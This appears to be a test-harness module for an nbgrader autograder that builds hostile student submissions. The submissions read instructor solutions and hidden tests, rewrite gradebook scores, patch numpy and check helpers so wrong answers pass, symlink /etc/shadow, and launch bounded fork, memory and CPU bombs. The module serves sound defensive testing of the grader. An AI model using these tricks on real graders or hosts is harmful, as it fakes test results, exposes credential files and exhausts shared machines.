@@ -1,0 +1,684 @@
+"""Hostile submissions: one per attack on the grader, handed in like any student's notebook.
+
+Cheating attacks start from the release (`base="release"`): their honest answers earn what an untouched
+release earns, so every point above an untouched submission is undeserved. Where an attack hands in
+answers of its own, they are wrong in everything a test checks (values, shapes, inputs left unchanged),
+so that without their trick they earn nothing. Resource attacks start from the reference solution
+(`base="solution"`): their points are deserved, and what matters is what they do to the grading
+machine. Each resource attack bounds itself (process count, memory, seconds) so that a failed defence
+cannot take the host down.
+
+`submit_attack(root, attack, port)` hands one in as submitted/attack-<name>/<assignment>/.
+"""
+
+import shutil
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import nbformat
+
+from coursetools.course import notebook_path
+
+STUDENT_PREFIX = "attack-"
+PORT_TOKEN = "LISTENER_PORT"
+
+
+@dataclass
+class Attack:
+    """One hostile submission: code prepended to an answer cell, and/or a change to the notebook or folder."""
+
+    name: str  # the student id is STUDENT_PREFIX + name
+    assignment: str
+    what: str  # one line for humans
+    base: str = "release"  # "release" or "solution"
+    cell: str = ""  # grade id of the answer cell that gets `code` prepended
+    code: str = ""  # may contain PORT_TOKEN, replaced by the listener's port
+    # fn(notebook, submission folder) -> notebook to write, or None when it wrote the notebook itself
+    tamper: Callable | None = None
+
+    @property
+    def student(self):
+        return STUDENT_PREFIX + self.name
+
+
+def _fill(template, **values):
+    """`template` with every __KEY__ replaced by its value."""
+    for key, value in values.items():
+        template = template.replace(f"__{key.upper()}__", str(value))
+    return template
+
+
+def _is_answer(cell):
+    meta = cell.metadata.get("nbgrader", {})
+    return cell.cell_type == "code" and meta.get("solution", False)
+
+
+def _is_test(cell):
+    meta = cell.metadata.get("nbgrader", {})
+    return cell.cell_type == "code" and meta.get("grade", False) and not meta.get("solution", False)
+
+
+def _append_to_answer_cells(code):
+    """A tamper that appends code to answer cells, so that it runs after the release's definitions there.
+
+    `code` is one string for every answer cell, or {grade id: code} for some of them.
+    """
+
+    def tamper(notebook, folder):
+        for cell in notebook.cells:
+            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+            extra = code if isinstance(code, str) else code.get(grade_id)
+            if _is_answer(cell) and extra:
+                cell.source = f"{cell.source}\n{extra}"
+        return notebook
+
+    return tamper
+
+
+# --- cheating ---------------------------------------------------------------------------------------
+
+# Appended to every answer cell: replaces the release's definitions with the instructor's.
+READ_SOURCE = '''
+def _instructor_answers(assignment):
+    """The answer cells of the course's source notebook, found above the working directory."""
+    import json
+    import os
+    from pathlib import Path
+
+    here = Path(os.getcwd()).resolve()
+    for folder in (here, *here.parents):
+        notebook = folder / "source" / assignment / f"{assignment}.ipynb"
+        if notebook.is_file():
+            cells = json.loads(notebook.read_text())["cells"]
+            return ["".join(c["source"]) for c in cells
+                    if c["cell_type"] == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
+    return []
+
+
+for _answer in _instructor_answers("__ASSIGNMENT__"):
+    exec(_answer, globals())
+'''
+
+WRITE_GRADEBOOK = '''
+def _full_marks(student, assignment):
+    """Full manual scores for this submission in the gradebook, and a line added to source/ and solutions/."""
+    import os
+    import sqlite3
+    from pathlib import Path
+
+    here = Path(os.getcwd()).resolve()
+    root = next((f for f in (here, *here.parents) if (f / "gradebook.db").is_file()), None)
+    if root is None:
+        print("no gradebook above", here)
+        return
+    # nbgrader's SaveAutoGrades sets auto_score only: a manual score takes precedence over it
+    try:
+        database = sqlite3.connect(root / "gradebook.db", timeout=30)
+        with database:
+            changed = database.execute(
+                """UPDATE grade SET manual_score =
+                       (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)
+                   WHERE notebook_id IN (
+                       SELECT submitted_notebook.id FROM submitted_notebook
+                       JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
+                       JOIN assignment ON submitted_assignment.assignment_id = assignment.id
+                       WHERE submitted_assignment.student_id = ? AND assignment.name = ?)""",
+                (student, assignment),
+            ).rowcount
+        database.close()
+        print("gradebook rows changed:", changed)
+    except Exception as error:
+        print("gradebook not written:", type(error).__name__, error)
+    for kind in ("source", "solutions"):
+        try:
+            with open(root / kind / assignment / "checks.py", "a") as checks:
+                checks.write(f"\\n# written by {student}\\n")
+            print(f"{kind}/{assignment}/checks.py written")
+        except Exception as error:
+            print(f"{kind}/{assignment}/checks.py not written:", type(error).__name__, error)
+
+
+_full_marks("__STUDENT__", "__ASSIGNMENT__")
+'''
+
+READ_HIDDEN_TESTS = '''
+def _print_hidden_tests():
+    """Print the source of every hidden test in the gradebook: it lands in the cell's output."""
+    import os
+    import sqlite3
+    from pathlib import Path
+
+    here = Path(os.getcwd()).resolve()
+    root = next((f for f in (here, *here.parents) if (f / "gradebook.db").is_file()), None)
+    if root is None:
+        print("no gradebook above", here)
+        return
+    # the marker is spelled in two parts: a source line holding it whole would make the feedback
+    # preprocessor look for an end marker in this cell, and fail
+    marker = "BEGIN " + "HIDDEN TESTS"
+    try:
+        database = sqlite3.connect(f"file:{root / 'gradebook.db'}?mode=ro", uri=True, timeout=30)
+        rows = database.execute(
+            "SELECT name, source FROM source_cell WHERE source LIKE ? ORDER BY name", (f"%{marker}%",)
+        ).fetchall()
+        database.close()
+    except Exception as error:
+        print("gradebook not read:", type(error).__name__, error)
+        return
+    for name, source in rows:
+        print(f"----- hidden test {name}\\n{source}")
+
+
+_print_hidden_tests()
+'''
+
+
+def _skip_test_cells(notebook, folder):
+    """Tag every test cell "skip-execution": nbclient leaves it unrun, and a cell without output scores."""
+    for cell in notebook.cells:
+        if _is_test(cell):
+            tags = cell.metadata.setdefault("tags", [])
+            if "skip-execution" not in tags:
+                tags.append("skip-execution")
+    return notebook
+
+
+# Answers that pass no test cell of linear_network on their own: zeros, columns (n, 1) where a 1-D array
+# is expected, and inputs changed in place. Only a trick on the checks can earn them points.
+WRONG_ANSWERS = {
+    "add_bias": '''
+def add_bias(features):
+    """Wrong: zeros everywhere, and the caller's first column overwritten."""
+    features[features.columns[0]] = 0.0
+    return features.assign(bias=0.0) * 0
+''',
+    "train": '''
+def train(features, labels):
+    """Wrong: zero weights, as a column."""
+    return np.zeros((np.asarray(features).shape[1], 1))
+''',
+    "feedforward": '''
+def feedforward(features, weights):
+    """Wrong: zero predictions, as a column, and the caller's weights changed."""
+    np.asarray(weights)[...] += 1
+    return np.zeros((len(features), 1))
+''',
+}
+
+PATCHED_NUMPY = '''
+def _patch_comparisons():
+    """numpy's and pandas' comparisons always agree; np.shape tells expect_shape what it expects."""
+    import sys
+
+    import numpy
+    import pandas
+    import sklearn.metrics
+
+    def always_close(a, b, *args, **kwargs):
+        return numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, dtype=bool)
+
+    def always_true(*args, **kwargs):
+        return True
+
+    def never_fails(*args, **kwargs):
+        return None
+
+    real_shape = numpy.shape
+
+    def shape_the_caller_expects(a):
+        caller = sys._getframe(1)
+        if caller.f_code.co_name == "expect_shape" and "shape" in caller.f_locals:
+            return tuple(caller.f_locals["shape"])
+        return real_shape(a)
+
+    numpy.isclose = always_close
+    numpy.allclose = numpy.array_equal = numpy.array_equiv = always_true
+    numpy.shape = shape_the_caller_expects
+    for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal"):
+        setattr(numpy.testing, name, never_fails)
+    pandas.DataFrame.equals = pandas.Series.equals = always_true
+    sklearn.metrics.r2_score = globals()["r2_score"] = lambda *args, **kwargs: 1.0
+
+
+_patch_comparisons()
+'''
+
+PATCHED_CHECKS = '''
+def _patch_checks():
+    """Every check helper, in the notebook and inside checks.py, passes whatever it is given."""
+    import sys
+
+    def passes(*args, **kwargs):
+        return None
+
+    for name in ("expect_type", "expect_shape", "expect_close", "expect_equal", "expect_columns",
+                 "expect_frame", "expect_inputs_unchanged"):
+        globals()[name] = passes
+        setattr(sys.modules["checks"], name, passes)
+    globals()["r2_score"] = lambda *args, **kwargs: 1.0
+
+
+_patch_checks()
+'''
+
+# Objects that become whatever the check comparing them expects: np.asarray(answer) and answer.shape
+# read the expected value from the calling check's frame. The answers change their inputs, and their
+# values and shapes are wrong, so that without the trick they pass no test cell.
+ALWAYS_EQUAL = '''
+import sys
+
+
+def _from_callers(name, functions):
+    """The local `name` of the nearest calling frame that runs one of `functions`, or None."""
+    frame = sys._getframe(2)
+    while frame is not None:
+        if frame.f_code.co_name in functions and name in frame.f_locals:
+            return frame.f_locals[name]
+        frame = frame.f_back
+    return None
+
+
+class Chameleon:
+    """Numbers that equal what the check expects, and have the shape that it expects."""
+
+    def __init__(self, true_shape):
+        self._true_shape = true_shape
+
+    @property
+    def shape(self):
+        expected = _from_callers("shape", ("expect_shape",))
+        return tuple(expected) if expected is not None else self._true_shape
+
+    def __array__(self, dtype=None, copy=None):
+        expected = _from_callers("expected", ("expect_close", "expect_equal", "expect_frame"))
+        if expected is None:
+            return np.zeros(self._true_shape, dtype=dtype)
+        return np.asarray(expected, dtype=dtype or float)
+
+    def __len__(self):
+        return len(self.__array__())
+
+    def __eq__(self, other):
+        return np.ones(np.shape(other), dtype=bool) if np.ndim(other) else True
+
+    __hash__ = None
+
+
+class ChameleonFrame(pd.DataFrame):
+    """A DataFrame with the right labels whose values are whatever the check expects."""
+
+    def to_numpy(self, *args, **kwargs):
+        expected = _from_callers("expected", ("expect_frame",))
+        if expected is not None:
+            return expected.to_numpy(*args, **kwargs)
+        return super().to_numpy(*args, **kwargs)
+
+    def __array__(self, dtype=None, copy=None):
+        return np.asarray(Chameleon(super().to_numpy().shape), dtype=dtype)
+
+    def __getitem__(self, key):
+        return Chameleon(np.shape(pd.DataFrame(self).__getitem__(key)))
+
+'''
+
+CHAMELEON_ANSWERS = {
+    "add_bias": '''
+def add_bias(features):
+    """Labels right, values zero, and the caller's first column overwritten."""
+    features[features.columns[0]] = 0.0
+    return ChameleonFrame(0.0, index=features.index, columns=[*features.columns, "bias"])
+''',
+    "train": '''
+def train(features, labels):
+    """Zero weights, as a column."""
+    return Chameleon((np.asarray(features).shape[1], 1))
+''',
+    "feedforward": '''
+def feedforward(features, weights):
+    """Zero predictions, as a column, and the caller's weights changed."""
+    np.asarray(weights)[...] += 1
+    return Chameleon((len(features), 1))
+''',
+}
+
+# A wrong accuracy that says it equals anything: expect_equal compares a scalar answer with `==`.
+ALWAYS_EQUAL_SCALAR = '''
+
+class AlwaysEqual(float):
+    """0.0, equal to every number."""
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = float.__hash__
+
+
+def final_accuracy(make_model, train_x, train_y, test_x, test_y):
+    return AlwaysEqual(0.0)
+'''
+
+CUSTOM_EXCEPTION_HANDLER = '''
+def _swallow(shell, etype, value, tb, tb_offset=None):
+    """Show nothing, and tell IPython that the cell ran without error."""
+    import sys
+
+    frame = sys._getframe(1)
+    while frame is not None:
+        result = frame.f_locals.get("result")
+        if frame.f_code.co_name == "run_code" and result is not None:
+            result.error_in_exec = None  # the kernel's reply says "ok", so nbgrader records no error
+            break
+        frame = frame.f_back
+    return []
+
+
+get_ipython().set_custom_exc((BaseException,), _swallow)
+'''
+
+INPUT_TRANSFORMER = '''
+def _blank(lines):
+    """Every later cell becomes empty before it runs."""
+    return []
+
+
+get_ipython().input_transformers_cleanup.append(_blank)
+'''
+
+
+def _link_to_source_notebook(notebook, folder):
+    """Hand in a relative link to the course's source notebook instead of a notebook."""
+    target = folder / f"{folder.name}.ipynb"
+    target.unlink(missing_ok=True)
+    target.symlink_to(Path("..", "..", "..", "source", folder.name, f"{folder.name}.ipynb"))
+    return None
+
+
+def _add_file_links(notebook, folder):
+    """Hand in links to the host's /etc/shadow and to the course's gradebook next to the notebook."""
+    (folder / "shadow").symlink_to("/etc/shadow")
+    (folder / "gradebook.db").symlink_to(Path("..", "..", "..", "gradebook.db"))
+    return notebook
+
+
+# What the linked files became where the notebook runs: only the first field of /etc/shadow is printed.
+READ_LINKED_FILES = '''
+def _read_linked_files():
+    import os
+    import sqlite3
+
+    for name in ("shadow", "gradebook.db"):
+        kind = "a link" if os.path.islink(name) else "a file" if os.path.isfile(name) else "missing"
+        print(name, "is", kind)
+    try:
+        with open("shadow") as shadow:
+            print("shadow's first user:", shadow.read().split(":")[0])
+    except OSError as error:
+        print("shadow not read:", type(error).__name__, error)
+    try:
+        database = sqlite3.connect("file:gradebook.db?mode=ro", uri=True)
+        print("students in the gradebook:", database.execute("SELECT count(*) FROM student").fetchone()[0])
+        database.close()
+    except Exception as error:
+        print("gradebook not read:", type(error).__name__, error)
+
+
+_read_linked_files()
+'''
+
+
+def _add_link_to_course(notebook, folder):
+    """Hand in a folder "course" that is a relative link to the course directory."""
+    (folder / "course").symlink_to(Path("..", "..", ".."), target_is_directory=True)
+    return notebook
+
+
+LIST_LINKED_COURSE = '''
+import os
+
+try:
+    print("course/ holds:", sorted(os.listdir("course")))
+except OSError as error:
+    print("course/ not listed:", type(error).__name__, error)
+'''
+
+# --- resource abuse ---------------------------------------------------------------------------------
+
+MEMORY_BOMB = '''
+import os
+
+
+def hoard():
+    """Keep 0.8 GB arrays (written, so really in memory) until 30 GiB or 3/4 of the machine's memory."""
+    limit = min(30 * 1024**3, os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") * 3 // 4)
+    kept = []
+    while (len(kept) + 1) * 8 * 10**8 <= limit:
+        kept.append(np.ones(10**8))
+    return len(kept)
+
+
+print("arrays kept:", hoard())
+'''
+
+# Each process stays under the kernel's address-space limit; together they would not.
+FORKED_MEMORY_BOMB = '''
+import os
+import time
+
+
+def hoard_in_children(children=12, gigabytes=1):
+    """`children` processes that each keep `gigabytes` of written memory for 30 s."""
+    started = []
+    for _ in range(children):
+        pid = os.fork()
+        if pid == 0:
+            kept = np.ones(gigabytes * 125_000_000)
+            time.sleep(30)
+            os._exit(int(kept[0]) - 1)
+        started.append(pid)
+    time.sleep(5)
+    return started
+
+
+print("children:", len(hoard_in_children()))
+'''
+
+FORK_BOMB = '''
+import os
+import time
+
+
+def fork_many(limit=5000, seconds=120):
+    """Start up to `limit` children that sleep for `seconds`."""
+    started = 0
+    while started < limit:
+        try:
+            pid = os.fork()
+        except OSError as error:
+            print("fork refused after", started, "children:", error)
+            break
+        if pid == 0:
+            try:
+                time.sleep(seconds)
+            finally:
+                os._exit(0)
+        started += 1
+    return started
+
+
+print("children started:", fork_many())
+'''
+
+RUNAWAY_CPU = '''
+import os
+import threading
+import time
+
+
+def _spin(seconds):
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        pass
+
+
+if os.fork() == 0:  # a child that keeps a core busy after the cell, and the notebook, are done
+    try:
+        _spin(300)
+    finally:
+        os._exit(0)
+threading.Thread(target=_spin, args=(300,), daemon=True).start()
+'''
+
+# Loopback only: the test listens on 127.0.0.1:LISTENER_PORT.
+NETWORK = '''
+import socket
+
+try:
+    with socket.create_connection(("127.0.0.1", LISTENER_PORT), timeout=5) as _connection:
+        _connection.sendall(b"stolen")
+    print("sent to 127.0.0.1:LISTENER_PORT")
+except OSError as error:
+    print("no connection:", type(error).__name__, error)
+'''
+
+DAEMON = '''
+import os
+import time
+
+
+def _start_daemon(path, seconds=120):
+    """A grandchild in its own session that appends a line to `path` every second for `seconds`."""
+    pid = os.fork()
+    if pid:
+        os.waitpid(pid, 0)
+        return
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            for _ in range(seconds):
+                with open(path, "a") as log:
+                    log.write(f"{time.time()} {os.getpid()}\\n")
+                time.sleep(1)
+    finally:
+        os._exit(0)
+
+
+_start_daemon("/tmp/lesson24-daemon-LISTENER_PORT.txt")
+'''
+
+STDOUT_FLOOD = '''
+import sys
+import time
+
+
+def _flood(seconds=90, megabytes_per_second=4):
+    line = "x" * 999 + "\\n"
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        sys.stdout.write(line * 1000)
+        sys.stdout.flush()
+        time.sleep(1 / megabytes_per_second)
+
+
+_flood()
+'''
+# Appended to the feedforward answer cell: when a test calls it, it prints every cell the kernel ran so
+# far (hidden tests of add_bias and train included), so they would land in the student's feedback.
+PRINT_HISTORY = '''
+def feedforward(features, weights):
+    print("\\n".join(In))
+    raise NotImplementedError()
+'''
+
+ASSIGNMENT = "linear_network"
+
+
+ATTACKS: list[Attack] = [
+    Attack("read-source", ASSIGNMENT, "runs the answer cells of the course's source notebook",
+           tamper=_append_to_answer_cells(_fill(READ_SOURCE, assignment=ASSIGNMENT))),
+    Attack("write-gradebook", ASSIGNMENT,
+           "gives itself full manual scores in gradebook.db and appends to source/ and solutions/ checks.py",
+           cell="add_bias",
+           code=_fill(WRITE_GRADEBOOK, student=STUDENT_PREFIX + "write-gradebook", assignment=ASSIGNMENT)),
+    Attack("read-hidden-tests", ASSIGNMENT,
+           "prints the hidden tests' source from gradebook.db into its output",
+           cell="add_bias", code=READ_HIDDEN_TESTS),
+    Attack("print-history", ASSIGNMENT,
+           "prints the kernel's input history, hidden tests included, when a test calls feedforward",
+           tamper=_append_to_answer_cells({"feedforward": PRINT_HISTORY})),
+    Attack("skip-execution", ASSIGNMENT, 'tags every test cell "skip-execution" so that none runs',
+           tamper=_skip_test_cells),
+    Attack("patched-numpy", ASSIGNMENT,
+           "wrong answers, with numpy's and pandas' comparisons, np.shape and r2_score patched to agree",
+           cell="add_bias", code=PATCHED_NUMPY, tamper=_append_to_answer_cells(WRONG_ANSWERS)),
+    Attack("patched-checks", ASSIGNMENT,
+           "wrong answers, with every checks helper (in the notebook and in checks.py) made a no-op",
+           cell="add_bias", code=PATCHED_CHECKS, tamper=_append_to_answer_cells(WRONG_ANSWERS)),
+    Attack("always-equal", ASSIGNMENT,
+           "wrong answers as objects whose values and shape are read from the calling check's frame",
+           cell="add_bias", code=ALWAYS_EQUAL, tamper=_append_to_answer_cells(CHAMELEON_ANSWERS)),
+    Attack("custom-exception-handler", ASSIGNMENT,
+           "an IPython custom exception handler that hides every error and reports the cell as ok",
+           cell="add_bias", code=CUSTOM_EXCEPTION_HANDLER),
+    Attack("input-transformer", ASSIGNMENT, "an IPython input transformer that empties every later cell",
+           cell="add_bias", code=INPUT_TRANSFORMER),
+    Attack("sys-exit", ASSIGNMENT, "sys.exit(0) in an answer cell", cell="add_bias",
+           code="import sys\n\nsys.exit(0)"),
+    Attack("ipython-exit", ASSIGNMENT, "IPython's exit(), which asks the kernel to shut down",
+           cell="add_bias", code="exit()"),
+    Attack("os-exit", ASSIGNMENT, "os._exit(0): the kernel process ends at once", cell="add_bias",
+           code="import os\n\nos._exit(0)"),
+    Attack("notebook-link", ASSIGNMENT,
+           "the notebook is a relative link to source/<assignment>/<assignment>.ipynb",
+           tamper=_link_to_source_notebook),
+    Attack("file-link", ASSIGNMENT, "hands in links to /etc/shadow and to the course's gradebook.db",
+           cell="add_bias", code=READ_LINKED_FILES, tamper=_add_file_links),
+    Attack("escaping-path", ASSIGNMENT, 'hands in a folder "course" that links to the course directory',
+           cell="add_bias", code=LIST_LINKED_COURSE, tamper=_add_link_to_course),
+    Attack("memory-bomb", ASSIGNMENT, "keeps 0.8 GB arrays in a list, up to 30 GiB or 3/4 of the RAM",
+           base="solution", cell="add_bias", code=MEMORY_BOMB),
+    Attack("forked-memory-bomb", ASSIGNMENT, "12 forked children that each keep 1 GB (the host has 24 GiB)",
+           base="solution", cell="add_bias", code=FORKED_MEMORY_BOMB),
+    Attack("fork-bomb", ASSIGNMENT, "forks up to 5000 children that sleep for 120 s", base="solution",
+           cell="add_bias", code=FORK_BOMB),
+    Attack("runaway-cpu", ASSIGNMENT,
+           "a forked child and a daemon thread that spin for 300 s after the cell returns",
+           base="solution", cell="add_bias", code=RUNAWAY_CPU),
+    Attack("network", ASSIGNMENT, 'sends b"stolen" to 127.0.0.1:LISTENER_PORT', base="solution",
+           cell="add_bias", code=NETWORK),
+    Attack("daemon", ASSIGNMENT,
+           "a double-forked, setsid() process that appends to /tmp/lesson24-daemon-LISTENER_PORT.txt "
+           "every second for 120 s", base="solution", cell="add_bias", code=DAEMON),
+    Attack("stdout-flood", ASSIGNMENT, "prints 4 MB per second for 90 s", base="solution", cell="add_bias",
+           code=STDOUT_FLOOD),
+    # digits_cv's tests compare a scalar answer with expect_equal, whose `got == expected` a float
+    # subclass could fool
+    Attack("always-equal-scalar", "digits_cv",
+           "final_accuracy returns a float subclass (0.0) whose __eq__ always says True",
+           tamper=_append_to_answer_cells({"final_accuracy": ALWAYS_EQUAL_SCALAR})),
+]
+
+
+def submit_attack(root: Path, attack: Attack, port: int) -> str:
+    """Build submitted/attack-<name>/<assignment>/ in course `root` (release/ and solutions/ exist there);
+    return the student id."""
+    kind = {"release": "release", "solution": "solutions"}[attack.base]
+    notebook = nbformat.read(notebook_path(root, kind, attack.assignment), as_version=4)
+    if attack.cell:
+        code = attack.code.replace(PORT_TOKEN, str(port))
+        cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == attack.cell]
+        if len(cells) != 1 or not _is_answer(cells[0]):
+            raise KeyError(f"no answer cell {attack.cell!r} in {attack.assignment}")
+        cells[0].source = f"{code}\n{cells[0].source}"
+    target = notebook_path(root, "submitted", attack.assignment, attack.student)
+    if target.parent.exists():
+        shutil.rmtree(target.parent)
+    target.parent.mkdir(parents=True)
+    if attack.tamper is not None:
+        notebook = attack.tamper(notebook, target.parent)
+    if notebook is not None:
+        nbformat.write(notebook, target)
+    return attack.student
